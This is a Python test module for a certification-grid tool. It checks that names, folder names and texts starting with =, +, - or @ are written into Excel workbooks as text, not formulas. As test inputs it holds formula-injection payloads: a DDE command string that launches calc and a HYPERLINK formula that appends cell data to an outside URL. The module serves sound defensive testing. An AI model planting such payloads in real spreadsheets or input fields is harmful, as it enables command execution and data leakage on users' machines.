"""Hardening — injection: text typed by people goes into workbooks as text, never as a formula.

Names in session.xlsx, the session folder's name, the organisation's name and référentiel texts
end up in grids, resultats.xlsx and the register's export. Each workbook is reopened with
openpyxl (the cell is a string, its value the exact text) and its raw XML is read: the only
``<f>`` elements are the formulas certidocs itself writes.
"""

from __future__ import annotations

import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

from click.testing import CliRunner
from gridtools import INFO, candidat, protection, read, synthetic
from openpyxl import load_workbook
from sessiondata import CANDIDATS, fill_grids, make_session, with_changes

from certidocs.cli import main
from certidocs.grid import layout as L
from certidocs.grid.writer import GridWriter, grid_filename
from certidocs.session import open_session
from certidocs.signature import ensure_keys
from certidocs.workspace import find_workspace

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
# What a spreadsheet would run if these were formulas (DDE, arithmetic, implicit intersection).
HOSTILE = {
    "Nom de naissance": HYPERLINK,
    "Prénom": "+1+1",
    "Nom d'usage": "-2+3",
    "Lieu de naissance": "@SUM(A1:A9)",
}
HOSTILE_2 = {"Nom de naissance": "=cmd|' /C calc'!A0", "Prénom": "@Moussa"}


def _workspace(root: Path, toml: str = "") -> Path:
    (root / "certidocs.toml").write_text('[grilles]\nmot_de_passe = ""\n' + toml,
                                         encoding="utf-8")
    ensure_keys(root)
    return root


def _hostile_session(root: Path, name: str = "s1") -> Path:
    rows = with_changes(with_changes(CANDIDATS, 0, HOSTILE), 1, HOSTILE_2)
    return make_session(root / name, candidats=rows)


def _fill_all(folder: Path, rate: float = 0.9) -> None:
    fill_grids(folder, rate)


def _raw_formulas(path: Path) -> list[str]:
    """The text of every ``<f>`` element of every worksheet, read from the XML itself."""
    found: list[str] = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                found += re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml, flags=re.S)
                found += ["(partagée)" for _ in re.findall(r"<f\s[^>]*/>", xml)]
    return found


def _string_cells(path: Path) -> dict[str, list[tuple[str, str, str]]]:
    """Every cell value as (sheet!cell, data_type, value), grouped by value."""
    wb = load_workbook(path)
    out: dict[str, list[tuple[str, str, str]]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out.setdefault(cell.value, []).append(
                        (f"{ws.title}!{cell.coordinate}", cell.data_type, cell.value))
    return out


def _assert_text(path: Path, texts: list[str]) -> None:
    """Each of ``texts`` is in the workbook as a string cell, and is in no formula."""
    cells = _string_cells(path)
    formulas = _raw_formulas(path)
    for text in texts:
        assert text in cells, f"{path.name} : « {text} » absent"
        for where, data_type, value in cells[text]:
            assert data_type == "s", f"{path.name} {where} : {data_type}"
            assert value == text
        payload = text.lstrip("=+-@")
        assert not [f for f in formulas if payload in f], f"{path.name} : « {text} » en formule"


def test_formula_like_names_stay_text_in_grids(tmp_path: Path, cli_runner: CliRunner) -> None:
    """Names beginning with = + - @: text in the grid, and the grid holds only our formulas."""
    folder = _hostile_session(_workspace(tmp_path))
    result = cli_runner.invoke(main, ["grilles", "s1"])
    assert result.exit_code == 0, result.output + result.stderr
    opened = open_session(folder, find_workspace(folder))
    ref = opened.referentiel
    for c in opened.lecture.session.candidats[:2]:
        path = folder / "grilles" / grid_filename(c)
        plan = L.plan_grid(ref, c.blocs(ref))
        # Exactly the layout's formulas: nothing typed by the office became one.
        assert len(_raw_formulas(path)) == len(plan.formulas)
        meta = load_workbook(path)[L.SHEET_META]
        nom = meta[f"B{L.META_KEYS.index(L.META_NOM) + 1}"]
        prenom = meta[f"B{L.META_KEYS.index(L.META_PRENOM) + 1}"]
        assert (nom.value, nom.data_type) == (c.nom, "s")
        assert (prenom.value, prenom.data_type) == (c.prenom, "s")
        _assert_text(path, [c.nom, c.prenom])


def test_session_folder_named_like_a_formula(tmp_path: Path, cli_runner: CliRunner) -> None:
    """A session folder « =1+1 »: its name is text in every grid, so grids read back and the
    candidates get their decisions (it used to be a formula: every grid « autre session »)."""
    folder = make_session(_workspace(tmp_path) / "=1+1")
    assert cli_runner.invoke(main, ["grilles", "=1+1"]).exit_code == 0
    for path in (folder / "grilles").glob("*.xlsx"):
        meta = load_workbook(path)[L.SHEET_META]
        cell = meta[f"B{L.META_KEYS.index(L.META_SESSION) + 1}"]
        assert (cell.value, cell.data_type) == ("=1+1", "s")
    _fill_all(folder)
    result = cli_runner.invoke(main, ["resultats", "=1+1"])
    assert result.exit_code == 0, result.output + result.stderr
    data = json.loads((folder / "resultats.json").read_text(encoding="utf-8"))
    assert data["anomalies"] == []
    assert "Incomplet" not in {c["decision"] for c in data["candidats"]}


def test_formula_like_names_stay_text_in_resultats_xlsx(tmp_path: Path,
                                                       cli_runner: CliRunner) -> None:
    """resultats.xlsx: names are string cells, and the workbook holds no formula at all."""
    folder = _hostile_session(_workspace(tmp_path))
    assert cli_runner.invoke(main, ["grilles", "s1"]).exit_code == 0
    _fill_all(folder)
    result = cli_runner.invoke(main, ["resultats", "s1"])
    assert result.exit_code == 0, result.output + result.stderr
    path = folder / "resultats.xlsx"
    assert _raw_formulas(path) == []
    _assert_text(path, ["-2+3", "+1+1", HOSTILE_2["Nom de naissance"], "@Moussa"])
    data = json.loads((folder / "resultats.json").read_text(encoding="utf-8"))
    assert [c["nom"] for c in data["candidats"]][:2] == ["-2+3", HOSTILE_2["Nom de naissance"]]


def test_formula_like_names_stay_text_in_registre_export(tmp_path: Path,
                                                        cli_runner: CliRunner) -> None:
    """The register's export: hostile names and places are string cells, no formula."""
    folder = _hostile_session(_workspace(tmp_path))
    assert cli_runner.invoke(main, ["grilles", "s1"]).exit_code == 0
    _fill_all(folder)
    assert cli_runner.invoke(main, ["resultats", "s1"]).exit_code == 0
    result = cli_runner.invoke(main, ["registre", "exporter", "-o", "export.xlsx"])
    assert result.exit_code == 0, result.output + result.stderr
    path = tmp_path / "export.xlsx"
    assert _raw_formulas(path) == []
    _assert_text(path, [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)",
                        HOSTILE_2["Nom de naissance"], "@Moussa"])


def test_formula_like_organisation_and_referentiel_texts_stay_text(tmp_path: Path) -> None:
    """The organisation's name (certidocs.toml) and a criterion's text beginning with « = »
    are written as text, and the grid reads back without anomaly."""
    base = synthetic((2,))
    bloc = base.blocs[0]
    critere = replace(bloc.criteres[0], libelle="=SOMME(1;2) : le calcul est juste.")
    ref = replace(base, blocs=(replace(bloc, criteres=(critere, bloc.criteres[1])),))
    organisme = "=cmd|' /C calc'!A0"
    writer = GridWriter(referentiel=ref, session_nom="@session", session_info=INFO,
                        protection=protection(), organisme=organisme)
    cand = candidat(nom="+33 Dupont", prenom="-Marie")
    path = tmp_path / grid_filename(cand)
    writer.write(path, cand, cand.blocs(ref))
    assert len(_raw_formulas(path)) == len(L.plan_grid(ref, cand.blocs(ref)).formulas)
    _assert_text(path, [organisme, critere.libelle, "@session", "+33 Dupont", "-Marie"])
    assert read(path, ref, cand, session="@session").anomalies == ()
